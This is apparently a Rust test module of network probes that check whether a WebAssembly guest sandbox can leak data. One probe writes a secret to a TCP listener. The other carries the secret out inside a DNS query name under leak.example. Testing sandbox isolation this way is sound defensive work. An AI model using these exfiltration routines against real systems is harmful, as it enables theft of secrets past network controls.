//! Probes of the network. A guest with these imports wasi:sockets.

use std::io::Write;
use std::net::{TcpStream, ToSocketAddrs, UdpSocket};

use crate::probe::{Outcome, Probe, Settings};

pub const PROBES: &[Probe] = &[Probe { name: "connect", run: connect }, Probe { name: "name-look-up", run: look_up }];

fn connect(settings: &Settings) -> Outcome {
    let address = settings.get("listener")?;
    let secret = settings.get("secret")?;
    let mut stream = TcpStream::connect(address).map_err(|error| format!("{address}: {error}"))?;
    stream.write_all(secret.as_bytes()).map_err(|error| format!("{address}: {error}"))?;
    Ok(format!("sent the secret to {address}"))
}

/// Puts the secret into a name and asks the resolver for its address: a question is enough to carry it out.
fn look_up(settings: &Settings) -> Outcome {
    let resolver = settings.get("resolver")?;
    let name = format!("{}.leak.example", settings.get("secret")?);
    let failed = |error: std::io::Error| format!("{resolver}: {error}");
    // Only the look-up itself counts here; a numeric address needs no resolver.
    let to = resolver.to_socket_addrs().map_err(failed)?.next().ok_or("no address")?;
    let socket = UdpSocket::bind("127.0.0.1:0").map_err(failed)?;
    socket.send_to(&question(&name), to).map_err(failed)?;
    Ok(format!("asked {resolver} for {name}"))
}

/// A DNS message with one question, type A.
fn question(name: &str) -> Vec<u8> {
    let mut message = vec![0x12, 0x34, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0];
    for label in name.split('.') {
        message.push(label.len() as u8);
        message.extend_from_slice(label.as_bytes());
    }
    message.extend_from_slice(&[0, 0, 1, 0, 1]);
    message
}
